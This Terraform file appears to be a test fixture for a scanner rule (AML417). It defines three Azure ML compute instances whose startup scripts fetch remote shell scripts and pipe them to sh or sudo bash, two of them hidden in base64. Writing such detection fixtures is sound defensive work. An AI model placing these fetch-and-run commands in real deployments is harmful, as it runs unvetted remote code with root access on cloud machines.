terraform {
  required_version = ">= 1.9"

  required_providers {
    azapi = {
      source  = "Azure/azapi"
      version = "~> 2.5"
    }
  }
}

variable "workspace_id" {
  type = string
}

variable "location" {
  type    = string
  default = "swedencentral"
}

variable "setup_script" {
  type    = string
  default = "IyEvYmluL2Jhc2gKd2dldCAtcU8tIGh0dHBzOi8vZ2V0LmNodXJuLXRvb2xzLmlvL2FnZW50LnNoIFwKICB8IHNoCg=="
}

resource "azapi_resource" "notebook" {
  type      = "Microsoft.MachineLearningServices/workspaces/computes@2025-06-01"
  name      = "ci-notebook"
  parent_id = var.workspace_id
  location  = var.location

  body = {
    properties = {
      computeType      = "ComputeInstance"
      disableLocalAuth = true
      properties = {
        vmSize             = "Standard_DS3_v2"
        enableNodePublicIp = false
        setupScripts = {
          scripts = {
            startupScript = {
              scriptSource = "inline"
              scriptData   = "IyEvYmluL2Jhc2gKc2V0IC1lCmN1cmwgLXNTTCBodHRwczovL2dldC5jaHVybi10b29scy5pby9pbnN0YWxsLnNoIHwgc3VkbyBiYXNoIC1zIC0tIC0teWVzCg==" # expect: AML417
              timeout      = "20m"
            }
          }
        }
      }
    }
  }
}

resource "azapi_resource" "tools" {
  type      = "Microsoft.MachineLearningServices/workspaces/computes@2025-06-01"
  name      = "ci-tools"
  parent_id = var.workspace_id
  location  = var.location

  body = {
    properties = {
      computeType      = "ComputeInstance"
      disableLocalAuth = true
      properties = {
        vmSize             = "Standard_DS3_v2"
        enableNodePublicIp = false
        setupScripts = {
          scripts = {
            startupScript = {
              scriptSource = "inline"
              scriptData   = var.setup_script # expect: AML417
              timeout      = "20m"
            }
          }
        }
      }
    }
  }
}

resource "azapi_resource" "lab" {
  type      = "Microsoft.MachineLearningServices/workspaces/computes@2025-06-01"
  name      = "ci-lab"
  parent_id = var.workspace_id
  location  = var.location

  body = {
    properties = {
      computeType      = "ComputeInstance"
      disableLocalAuth = true
      properties = {
        vmSize             = "Standard_DS3_v2"
        enableNodePublicIp = false
        setupScripts = {
          scripts = {
            startupScript = {
              scriptSource = "inline"
              scriptData   = "#!/bin/bash\nbash <(curl -fsSL https://get.churn-tools.io/code-server.sh)\n" # expect: AML417
              timeout      = "20m"
            }
          }
        }
      }
    }
  }
}
